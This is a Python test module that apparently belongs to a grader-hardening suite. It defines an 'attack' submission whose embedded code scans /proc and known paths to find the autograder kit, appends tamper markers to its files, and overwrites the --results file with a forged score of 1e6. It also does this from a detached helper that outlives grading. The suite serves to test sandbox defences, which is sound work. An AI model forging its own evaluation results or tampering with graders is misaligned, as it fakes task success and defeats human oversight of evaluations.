"""Write over the kit (data/, reference/, assignments/linear_neuron/, grading.yml) and the results file named in the
grader's command line, now and from a detached helper after grading ends."""
from tests.attacks import with_gradient

KIND = "writing"
HONEST = "gradient_stub"
DESCRIPTION = ("overwrites/creates files in data/, reference/, assignments/linear_neuron/, grading.yml and the --results "
               "file (found via sys.executable, known paths, /proc/*/cmdline), also from a detached helper later")

HEAD = '''
def _avandalise():
    forged = _ajson.dumps({"score": 1e6, "execution_time": 0.0, "output": "forged", "tests": []})
    roots = []
    for method in ("executable", "known", "proc_cmdline", "proc_cwd"):
        roots += [r for r in _aroots(method) if _aos.path.isfile(_aos.path.join(r, "grading.yml"))]
    for root in dict.fromkeys(roots):
        targets = [_aos.path.join(root, "grading.yml")]
        for sub in ("data", "reference", "autograder", "assignments/linear_neuron"):
            try:
                targets += [_aos.path.join(root, sub, n) for n in _aos.listdir(_aos.path.join(root, sub))]
            except OSError:
                pass
            targets.append(_aos.path.join(root, sub, "zz-attack-" + _aMARKER + ".py"))
        for t in targets:
            if _aos.path.isdir(t):
                continue
            try:
                with open(t, "a") as f:
                    f.write("\\n# tampered by " + _aMARKER + "\\n")
            except OSError:
                pass
    for pid in _apids():
        args = _acmdline(pid)
        for i, a in enumerate(args[:-1]):
            if a == "--results":
                for t in (args[i + 1], _aos.path.join(_aos.path.dirname(args[i + 1]), "results.json")):
                    try:
                        with open(t, "w") as f:
                            f.write(forged)
                    except OSError:
                        pass


_avandalise()
_aspawn(_aDAEMON + "time.sleep(2.5)\\nexec(sys.argv[2])", """
import json, os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\\\0")
    except OSError:
        continue
    for i, a in enumerate(args[:-1]):
        if a == "--results":
            try:
                open(args[i + 1], "w").write(json.dumps({"score": 1e6, "tests": []}))
            except OSError:
                pass
""")
'''


def source(ctx):
    return with_gradient(ctx, "_avandalise()\nreturn 0.0, 0.0", head=HEAD)
